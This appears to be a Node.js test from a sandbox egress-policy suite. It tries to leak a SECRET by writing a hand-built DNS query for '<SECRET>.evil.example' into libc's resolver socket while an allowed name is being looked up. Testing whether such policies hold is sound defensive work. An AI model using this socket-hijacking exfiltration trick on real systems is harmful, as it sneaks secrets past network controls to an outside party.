// class: network
// rule: outbound_connectivity
// policy: lookups.yaml
// success: during a lookup of an allowed name in Node, its own code asks a question by libc's
//   socket
// proof: query
// needs: resolver
// quiet: no other thread has an fd for what libc opens in a lookup
// alerts: true
// timeout: 40
'use strict';
const dns = require('dns');
const fs = require('fs');
const { SECRET, attempt, patience } = require('./attack.js');

const labels = `${SECRET}.evil.example`.split('.').map((label) => String.fromCharCode(label.length) + label).join('');
const question = Buffer.from('\x12\x34\x01\0\0\x01\0\0\0\0\0\0' + labels + '\0\0\x01\0\x01', 'latin1');
const links = () => new Set(fs.readdirSync('/proc/self/fd').map(Number));

function write(before) {
    for (const fd of links()) {
        if (before.has(fd)) continue;
        try {
            if (!fs.readlinkSync(`/proc/self/fd/${fd}`).startsWith('socket:')) continue;
            return fs.writeSync(fd, question) === question.length;
        } catch {
            // It is gone, or not connected yet.
        }
    }
    return false;
}

attempt(async () => {
    const before = links();
    // Some of the new sockets are not those of questions.
    const end = Date.now() + 1000 * patience(15);
    let done = 0;
    while (done < 12 && Date.now() < end) {
        let pending = 4;
        const over = () => pending--;
        for (let i = 0; i < 4; i++) dns.lookup('api.allowed.example', over);
        for (let i = 0; i < 60 && done < 12; i++) done += write(before);
        while (pending > 0) await new Promise(setImmediate);
    }
    return done > 0;
});
